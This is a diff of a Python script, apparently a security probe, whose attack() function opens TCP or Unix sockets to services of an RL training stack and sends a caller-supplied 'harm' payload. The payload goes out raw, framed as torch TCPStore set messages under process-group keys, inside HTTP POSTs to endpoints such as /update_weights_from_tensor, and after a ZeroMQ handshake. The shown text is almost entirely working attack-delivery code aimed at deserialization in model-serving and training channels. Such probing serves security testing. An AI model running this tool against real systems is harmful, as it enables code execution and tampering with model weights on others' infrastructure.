@@ -27,24 +27,25 @@ harm = bytes.fromhex(sys.argv[1])
 keep = []
 def text(content):
     return len(content).to_bytes(8, "little") + content
-def attempts():
+def attempts(kind):
+    # Nothing that begins with eight bytes of a small number: with those somebody takes a rank's place in a group of
+    # gloo's that is just being made, which is not closed (SECURITY.md).
     yield b"garbage\\n" * 20
-    yield b"\\0" * 64
     yield b"\\xff" * 4096
     yield harm
-    yield len(harm).to_bytes(8, "little") + harm
     magic = b"\\0" + (0x3C85F7CE).to_bytes(4, "little")  # of torch's store, and then: set
-    notes = ("megarl/generation/1/back/0", "default_pg//megarl/generation/1/back/0/0", "default_pg/0//0//cpu//0/rank_1")
+    notes = ("megarl/generation/1/back/0", "0//megarl/generation/1/back/0/0", "0//0//cpu//0/rank_1")
     yield magic + b"".join(b"\\1" + text(name.encode()) + text(harm) for name in notes)
     head = "POST %s HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: %d\\r\\nContent-Type: application/json\\r\\n\\r\\n"
     for path in ("/update_weights_from_tensor", "/generate", "/pause_generation", "/release_memory_occupation"):
         body = json.dumps({"serialized_named_tensors": [harm.hex()], "text": "x", "load_format": None})
         yield (head % (path, len(body)) + body).encode()
-    greeting = b"\\xff\\0\\0\\0\\0\\0\\0\\0\\x01\\x7f" + b"\\3\\0NULL" + b"\\0" * 48  # of ZeroMQ
-    yield greeting + b"\\0" + bytes([len(harm)]) + harm
+    if kind == "unix":
+        greeting = b"\\xff\\0\\0\\0\\0\\0\\0\\0\\x01\\x7f" + b"\\3\\0NULL" + b"\\0" * 48  # of ZeroMQ
+        yield greeting + b"\\0" + bytes([len(harm)]) + harm
 def attack(kind, name):
     said = set()
-    for content in attempts():
+    for content in attempts(kind):
         to = socket.socket(socket.AF_INET if kind == "tcp" else socket.AF_UNIX, socket.SOCK_STREAM)
         to.settimeout(5.0)
         try:
